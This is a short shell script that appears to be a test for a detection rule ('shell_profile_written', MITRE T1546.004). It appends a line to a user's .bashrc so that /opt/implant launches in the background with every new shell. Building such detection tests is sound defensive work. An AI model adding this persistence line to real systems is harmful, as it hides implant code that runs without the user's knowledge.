#!/bin/sh
# technique: T1546.004 Event Triggered Execution: Unix Shell Configuration Modification
# rule: shell_profile_written
# Has itself started by each shell of a user.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
printf '(/opt/implant &) 2>/dev/null\n' >> /home/worker/.bashrc
exit 0
